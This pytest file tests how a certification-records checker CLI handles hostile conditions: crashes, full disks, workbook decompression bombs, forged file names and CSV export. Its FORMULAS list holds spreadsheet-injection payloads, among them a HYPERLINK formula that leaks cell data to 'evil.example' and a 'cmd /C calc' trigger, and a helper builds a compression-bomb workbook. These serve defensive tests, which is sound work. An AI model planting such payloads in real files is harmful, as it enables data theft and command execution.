"""Hostile conditions on the output and process side (issue 14): every way a run can end has
its documented exit code and never a traceback; outputs are checked before the run and
written all or none, so a full disk keeps the previous report; a workbook bomb never reaches
openpyxl; ignored files are listed in every format; a stopped prescreen leaves no copy of
the untrusted submission behind; printed names cannot forge lines; the CSV export cannot
carry a live formula. No test here asserts on time: subprocess timeouts only stop a hang."""
import csv
import datetime as dt
import errno
import json
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import checker.output_files as output_files
import cli
from checker.importers.csv_cells import neutralise, restore
from checker.importers.export import export_csv, write_records
from checker.importers.sources import workbook_refusal
from checker.archive_limits import Limits
from checker.pipeline import load_input, run_check
from checker.report import junit, oscal, sarif, text
from tests.helpers import shipped_rules, workbook

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "fixtures" / "demo-cb"
HANG_GUARD = 300          # seconds; only stops a hung subprocess, never a speed check
RECORDS = [
    {"type": "client", "id": "c1", "name": "Clean Co"},
    {"type": "audit", "id": "a1", "client": "c1", "audit_type": "stage1", "start_date": "2024-01-10",
     "end_date": "2024-01-10"},
]


@pytest.fixture(autouse=True)
def private_tempdir(tmp_path, monkeypatch):
    """Temporary files of in-process runs (crash reports, prescreen copies) stay in tmp_path."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))


def records_folder(folder: Path, extra: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "r.yaml").write_text(yaml.safe_dump(RECORDS), encoding="utf-8")
    for name, content in (extra or {}).items():
        (folder / name).write_text(content, encoding="utf-8")
    return folder


def invoke(*args):
    result = CliRunner().invoke(cli.main, [str(a) for a in args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def subprocess_env(tmp_path: Path) -> dict:
    private = tmp_path / "tmpdir"
    private.mkdir(exist_ok=True)
    return dict(os.environ, TMPDIR=str(private), PYTHONPATH=str(ROOT))


# --- 3. no traceback ever: internal errors, interrupts, a closed pipe ---------------------------

def boom(*_args, **_kwargs):
    raise RuntimeError("planted failure\nwith a second line")


def test_an_internal_error_is_exit_3_with_one_line_and_the_traceback_in_a_file(tmp_path, monkeypatch):
    monkeypatch.setattr(cli, "run_check", boom)
    code, out, err = invoke("check", records_folder(tmp_path / "in"), "--as-of", "2025-06-30")
    assert code == 3 and out == ""
    (line,) = err.splitlines()
    assert line.startswith("cbcheck: internal error, a bug in cbcheck") and "RuntimeError: planted failure" in line
    (crash,) = tmp_path.glob("cbcheck-crash-*.txt")
    assert str(crash) in line
    saved = crash.read_text(encoding="utf-8")
    assert "Traceback (most recent call last)" in saved and "planted failure\nwith a second line" in saved


BOOT_INTERNAL_ERROR = """
import sys, cli
def boom(*a, **k):
    raise KeyError("planted")
cli.run_check = boom
sys.argv = ["cbcheck"] + sys.argv[1:]
cli.main()
"""


def test_an_internal_error_in_a_real_process_prints_no_traceback(tmp_path):
    env = subprocess_env(tmp_path)
    done = subprocess.run([sys.executable, "-c", BOOT_INTERNAL_ERROR, "check", str(records_folder(tmp_path / "in"))],
                          env=env, capture_output=True, text=True, timeout=HANG_GUARD)
    assert done.returncode == 3, done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1
    (crash,) = Path(env["TMPDIR"]).glob("cbcheck-crash-*.txt")
    assert "KeyError: 'planted'" in crash.read_text(encoding="utf-8")


@pytest.mark.parametrize("raised, code, said", [(KeyboardInterrupt, 130, "SIGINT"),
                                                  (cli.ProblemsFound([cli.Problem("x.yaml", 3, "", "bad", "")]), 2,
                                                   "x.yaml:3: bad")])
def test_interrupts_and_located_problems_keep_their_own_exit_codes(tmp_path, monkeypatch, raised, code, said):
    def stop(*_args, **_kwargs):
        raise raised
    monkeypatch.setattr(cli, "run_check", stop)
    exit_code, _out, err = invoke("check", records_folder(tmp_path / "in"))
    assert exit_code == code and said in err and "Traceback" not in err


def test_a_reader_closing_the_pipe_early_is_not_a_crash(tmp_path):
    """`cbcheck ... | head`: the reader is gone before cbcheck writes (closed here before it
    even starts, so no timing decides the outcome)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        done = subprocess.run([sys.executable, "-m", "cli", "rules", "list"], cwd=ROOT, env=subprocess_env(tmp_path),
                              stdout=write_end, stderr=subprocess.PIPE, timeout=HANG_GUARD)
    finally:
        os.close(write_end)
    assert done.returncode == 141 and done.stderr == b""


def test_exit_codes_are_documented_in_help_and_readme():
    _code, out, _err = invoke("--help")
    for code in ("3 ", "130", "143"):
        assert code in out
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "**3**" in readme and "130" in readme and "143" in readme


# --- 4. outputs: checked before the run, written all or none -----------------------------------

def never_run(*_args, **_kwargs):
    raise AssertionError("the run started although an output cannot be written")


def test_every_unwritable_output_is_listed_before_the_run(tmp_path, monkeypatch):
    monkeypatch.setattr(cli, "run_check", never_run)
    (tmp_path / "a-file").write_text("")
    (tmp_path / "a-folder").mkdir()
    code, out, err = invoke("check", records_folder(tmp_path / "in"), "-o", tmp_path / "missing" / "r.json",
                            "--also", f"html={tmp_path / 'a-file' / 'r.html'}",
                            "--also", f"sarif={tmp_path / 'a-folder'}",
                            "--also", f"junit={tmp_path / 'ok.xml'}", "--also", f"text={tmp_path / 'ok.xml'}",
                            "--history", tmp_path / "gone" / "h.sqlite")
    assert code == 2 and out == ""
    lines = err.splitlines()
    assert lines[0] == "cbcheck: 5 problem(s) in the output files:"
    expected = {f"{tmp_path / 'missing' / 'r.json'}: the folder {tmp_path / 'missing'} does not exist",
                f"{tmp_path / 'a-file' / 'r.html'}: {tmp_path / 'a-file'} is not a folder",
                f"{tmp_path / 'a-folder'}: is a folder",
                f"{tmp_path / 'ok.xml'}: named by both --also junit and --also text",
                f"{tmp_path / 'gone' / 'h.sqlite'}: the folder {tmp_path / 'gone'} does not exist"}
    assert {line.strip().split(" (expected: ")[0] for line in lines[1:]} == expected
    assert all("(expected: " in line for line in lines[1:])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file", "a-folder", "in"]


def test_prescreen_and_import_check_their_outputs_first(tmp_path, monkeypatch):
    monkeypatch.setattr(cli, "run_prescreen", never_run)
    monkeypatch.setattr(cli, "run_import", never_run)
    code, _out, err = invoke("prescreen", records_folder(tmp_path / "in"), "-o", tmp_path / "no" / "r.txt")
    assert code == 2 and "does not exist" in err
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "old.yaml").write_text("")
    code, _out, err = invoke("import", "tabular", tmp_path / "in" / "r.yaml", "--out", tmp_path / "full")
    assert code == 2 and "not an empty folder" in err
    (tmp_path / "plain").write_text("")
    code, _out, err = invoke("import", "tabular", tmp_path / "in" / "r.yaml", "--out", tmp_path / "plain" / "sub")
    assert code == 2 and "is not a folder" in err


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders and files; /proc covers the folder below")
def test_a_read_only_folder_is_refused_before_the_run(tmp_path, monkeypatch):
    monkeypatch.setattr(cli, "run_check", never_run)
    locked = tmp_path / "locked"
    locked.mkdir()
    (tmp_path / "kept.json").write_text("previous")
    (tmp_path / "kept.json").chmod(0o444)
    locked.chmod(0o555)
    try:
        code, _out, err = invoke("check", records_folder(tmp_path / "in"), "-o", locked / "r.json",
                                 "--also", f"json={tmp_path / 'kept.json'}")
    finally:
        locked.chmod(0o755)
    assert code == 2 and f"cannot create a file in {locked}" in err
    assert f"{tmp_path / 'kept.json'}: the file is read-only" in err


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs Linux /proc, where nobody may create a file")
def test_a_folder_nobody_may_write_is_refused_before_the_run(tmp_path, monkeypatch):
    monkeypatch.setattr(cli, "run_check", never_run)
    code, _out, err = invoke("check", records_folder(tmp_path / "in"), "-o", "/proc/cbcheck-report.json")
    assert code == 2 and "cannot create a file in /proc" in err


def disk_full_after(monkeypatch, chunks: int):
    """The disk fills up after `chunks` writes of 4 KiB: every later write fails with ENOSPC."""
    real = output_files._write_chunk
    left = {"chunks": chunks}

    def write(fd, chunk):
        if left["chunks"] == 0:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        left["chunks"] -= 1
        return real(fd, chunk)
    monkeypatch.setattr(output_files, "CHUNK", 4096)
    monkeypatch.setattr(output_files, "_write_chunk", write)


@pytest.mark.parametrize("chunks", [3, 100])    # full while writing the JSON (300 KB), or the HTML after it
def test_a_full_disk_keeps_every_previous_report_intact(tmp_path, monkeypatch, chunks):
    out = tmp_path / "out"
    out.mkdir()
    old = {"r.json": b'{"previous": "report"}\n' * 2000, "r.html": b"<p>previous</p>\n" * 2000}
    for name, content in old.items():
        (out / name).write_bytes(content)
    disk_full_after(monkeypatch, chunks)
    code, _out, err = invoke("check", records_folder(tmp_path / "in"), "--as-of", "2025-06-30", "--format", "json",
                             "-o", out / "r.json", "--also", f"html={out / 'r.html'}", "--quiet")
    assert code == 2
    assert "cannot be written (disk full); the previous file, if any, is unchanged" in err and "Traceback" not in err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == old        # no temporary file left either


def test_a_replaced_report_keeps_its_mode_and_is_complete(tmp_path):
    target = tmp_path / "r.json"
    target.write_text("old")
    target.chmod(0o640)
    code, _out, _err = invoke("check", records_folder(tmp_path / "in"), "--as-of", "2025-06-30", "--format", "json",
                              "-o", target, "--quiet", "--fail-on", "none")
    assert code == 0 and json.loads(target.read_text())["report_format"]
    assert (target.stat().st_mode & 0o777) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "r.json"]


def test_an_import_stopped_by_a_full_disk_writes_nothing_and_can_be_rerun(tmp_path, monkeypatch):
    many = [{"type": "client", "id": f"c{i}", "name": "x" * 3000} for i in range(4)]
    disk_full_after(monkeypatch, 2)
    problems = write_records(many, tmp_path / "out")
    assert len(problems) == 1 and "disk full" in problems[0].message
    assert not (tmp_path / "out").exists()
    monkeypatch.undo()
    assert write_records(many, tmp_path / "out") == []
    assert len(list((tmp_path / "out").rglob("records.yaml"))) == 4


def test_output_to_a_device_is_written_in_place(tmp_path):
    code, _out, _err = invoke("check", records_folder(tmp_path / "in"), "--as-of", "2025-06-30", "-o", os.devnull,
                              "--fail-on", "none", "--quiet")
    assert code == 0


# --- 6. a workbook decompression bomb never reaches openpyxl -----------------------------------

def bomb_workbook(path: Path, sheet_bytes: int, level: int) -> Path:
    """A real workbook whose first sheet is replaced by `sheet_bytes` of rows without
    coordinates (openpyxl would make a new cell of each), compressed at `level`."""
    real = workbook(path.with_suffix(".seed.xlsx"), {"client": [["id", "name"], ["c1", "x"]]})
    row = b"<row><c t=\"inlineStr\"><is><t>" + b"x" * 40 + b"</t></is></c></row>"
    chunk = row * (1024 * 1024 // len(row))
    with zipfile.ZipFile(real) as seed, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
        for info in seed.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info.filename, seed.read(info))
                continue
            with out.open(info.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                for _ in range(sheet_bytes // len(chunk)):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.fixture(scope="module")
def ratio_bomb(tmp_path_factory):
    return bomb_workbook(tmp_path_factory.mktemp("bomb") / "cb.xlsx", 64 * 1024 * 1024, level=9)


def test_workbook_limits_are_prescreens_own(ratio_bomb):
    assert "compression ratio" in workbook_refusal(ratio_bomb).message
    assert "over the limit of 1000 bytes" in workbook_refusal(ratio_bomb, Limits(max_bytes=1000, max_ratio=10**6)).message
    assert "parts, over the limit of 2" in workbook_refusal(ratio_bomb, Limits(max_files=2)).message
    assert workbook_refusal(ratio_bomb, Limits(max_ratio=10**6)) is None


@pytest.mark.parametrize("command", [["check", "{book}"], ["validate", "{book}"],
                                     ["import", "tabular", "{book}", "--out", "{out}"],
                                     ["import", "certsearch", "{book}", "--out", "{out}"]])
def test_check_validate_and_import_refuse_a_workbook_bomb_without_opening_it(ratio_bomb, tmp_path, monkeypatch,
                                                                             command):
    import openpyxl
    monkeypatch.setattr(openpyxl, "load_workbook", never_run)
    args = [a.format(book=ratio_bomb, out=tmp_path / "out") for a in command]
    code, out, err = invoke(*args)
    said = out + err              # check puts the error in its report, the others on stderr
    assert code == 2 and "cb.xlsx: refused: the workbook is not read, since part 'xl/worksheets/sheet1.xml'" in said
    assert "compression ratio" in said and not (tmp_path / "out").exists()


BOOT_MEMORY_CAP = """
import resource, sys
import cli
import openpyxl
size = int(next(l for l in open("/proc/self/status") if l.startswith("VmSize")).split()[1]) * 1024
cap = size + 512 * 1024 * 1024      # what this process holds now, plus 512 MiB
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
sys.argv = ["cbcheck"] + sys.argv[1:]
cli.main()
"""


@pytest.mark.skipif(not Path("/proc/self/status").is_file(), reason="reads VmSize from Linux /proc")
def test_a_gigabyte_workbook_is_refused_within_bounded_memory(tmp_path):
    book = bomb_workbook(tmp_path / "big.xlsx", 576 * 1024 * 1024, level=1)
    assert book.stat().st_size < 8 * 1024 * 1024
    done = subprocess.run([sys.executable, "-c", BOOT_MEMORY_CAP, "validate", str(book)],
                          env=subprocess_env(tmp_path), capture_output=True, text=True, timeout=HANG_GUARD)
    assert done.returncode == 2, done.stderr
    assert "big.xlsx: refused: the workbook is not read, since it expands to" in done.stderr


# --- 8. ignored files are listed in every format ----------------------------------------------

def test_ignored_files_are_listed_in_every_format(tmp_path):
    folder = records_folder(tmp_path / "in", {"nonconformities.yml.bak": "- {}\n", "notes\nFAKE LINE.txt": ""})
    rules, params = shipped_rules({"CYC001"})
    report = run_check(folder, rules, params, dt.date(2025, 6, 30))
    # The reader escapes control characters in names once, at the source (issue 14 item 5), so
    # every format carries the escaped, lossless form and no renderer can forge a line.
    assert report["input"]["files_ignored"] == ["nonconformities.yml.bak", "notes\\nFAKE LINE.txt"]
    lines = text.render(report).splitlines()
    at = lines.index("Files ignored, not read (not record files): 2")
    assert lines[at + 1:at + 3] == ["  nonconformities.yml.bak", "  notes\\nFAKE LINE.txt"]
    suite = junit.render(report)
    assert "nonconformities.yml.bak" in suite and "notes\\nFAKE LINE.txt" in suite
    notes = json.loads(sarif.render(report))["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    assert [n["properties"]["ignoredFile"] for n in notes if "ignoredFile" in n.get("properties", {})] == \
           report["input"]["files_ignored"]
    log = json.loads(oscal.render(report))["assessment-results"]["results"][0]["assessment-log"]["entries"]
    assert [e["props"][0]["value"] for e in log if e["title"] == "file ignored"] == \
           ["nonconformities.yml.bak", "notes\\nFAKE LINE.txt"]


# --- 9. a stopped prescreen leaves no copy of the submission -----------------------------------

BOOT_STALLED_PRESCREEN = """
import signal, sys, time
signal.signal(signal.SIGINT, signal.default_int_handler)    # as in a terminal, even if started in the background
from pathlib import Path
import checker.prescreen as prescreen
import checker.prescreen.archive as archive
ready, phase = Path(sys.argv[1]), sys.argv[2]

def stall():
    ready.write_text("stalled")
    time.sleep(3600)                      # the test's signal ends this

if phase == "copy":                       # after the first file is copied, before the rest
    real_write = archive._Writer.write
    def write(self, *args):
        real_write(self, *args)
        stall()
    archive._Writer.write = write
else:                                     # the copy is complete, the records are being read
    prescreen.load_input = lambda *args, **kwargs: stall()
import cli
sys.argv = ["cbcheck", "prescreen"] + sys.argv[3:]
cli.main()
"""


@pytest.mark.parametrize("phase", ["copy", "evaluate"])
@pytest.mark.parametrize("signum, code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_stopped_prescreen_removes_its_private_copy(tmp_path, phase, signum, code):
    submission = tmp_path / "submission"
    for n in range(5):
        records_folder(submission / f"client{n}")
    env = subprocess_env(tmp_path)
    ready = tmp_path / "ready"
    proc = subprocess.Popen([sys.executable, "-c", BOOT_STALLED_PRESCREEN, str(ready), phase, str(submission)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(HANG_GUARD * 20):
            if ready.exists() or proc.poll() is not None:
                break
            time.sleep(0.05)
        assert ready.exists(), proc.communicate()[1] if proc.poll() is not None else "never stalled"
        copies = list(Path(env["TMPDIR"]).glob("cbcheck-prescreen-*"))
        assert len(copies) == 1 and any(copies[0].rglob("*.yaml"))         # the copy exists while it runs
        proc.send_signal(signum)
        _out, err = proc.communicate(timeout=HANG_GUARD)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == code
    assert "stopped by SIG" in err and "Traceback" not in err
    assert list(Path(env["TMPDIR"]).iterdir()) == []


# --- 10. printed names cannot forge lines; the CSV export carries no live formula ---------------

def test_validate_escapes_control_characters_in_names(tmp_path):
    folder = records_folder(tmp_path / "in", {"x\nin: 0 record(s) are valid\x1b[2J.txt": ""})
    code, out, _err = invoke("validate", folder)
    assert code == 0
    (line,) = out.splitlines()
    assert "x\\nin: 0 record(s) are valid\\x1b[2J.txt" in line and "\x1b" not in line
    (folder / "bad\nname.yaml").write_text("- {type: client}\n")
    code, _out, err = invoke("validate", folder)
    assert code == 2 and "bad\\nname.yaml" in err
    assert all(line.startswith(("cbcheck: ", "  ")) for line in err.splitlines())


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTabbed", "\rCarriage", "'=already quoted", "''-twice"]


def test_csv_cells_are_neutralised_and_restored():
    for value in FORMULAS:
        assert neutralise(value).startswith("'") and restore(neutralise(value)) == value
    for value in ("-5", "+2.5", "Plain text", "'s-Hertogenbosch", "", "2024-01-10"):
        assert neutralise(value) == value and restore(value) == value


def live(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula: a trigger first, and not a plain number."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1.;\""), max_size=8))
def test_neutralising_round_trips_every_text(value):
    assert restore(neutralise(value)) == value and not live(neutralise(value))


def with_formulas(records: list[dict]) -> list[dict]:
    """The records with formula-like text in an extension field of each and in real fields."""
    out = []
    for n, record in enumerate(records):
        record = dict(record, **{"x-note": FORMULAS[n % len(FORMULAS)] + f" {record['id']}"})
        if record["type"] == "client":
            record["name"] = "=" + record.get("name", "x")
        if record["type"] == "nonconformity" and record.get("statement"):
            record["statement"] = "@" + record["statement"]
        out.append(record)
    return out


def essence(report):
    return sorted((f["rule_id"], f["client"], f["record_id"], f["fingerprint"], f["message"])
                  for f in report["findings"])


def test_demo_with_formula_text_round_trips_through_csv_with_identical_findings(tmp_path):
    records = with_formulas([r.data for r in load_input(DEMO).read.records])
    assert write_records(records, tmp_path / "yaml") == []
    assert export_csv(records, tmp_path / "csv") == []
    cells = []
    for path in sorted((tmp_path / "csv").glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells) and any(c.startswith("'\r") for c in cells)
    assert [c for c in cells if live(c)] == []
    rules, params = shipped_rules()
    as_of = dt.date(2026, 11, 25)
    from_yaml = run_check(tmp_path / "yaml", rules, params, as_of)
    from_csv = run_check(tmp_path / "csv", rules, params, as_of)
    assert from_csv["errors"] == [] and from_yaml["errors"] == []
    assert essence(from_csv) == essence(from_yaml) and len(from_yaml["findings"]) > 10
    assert sorted(r.data["x-note"] for r in load_input(tmp_path / "csv").read.records) == \
           sorted(r["x-note"] for r in records)
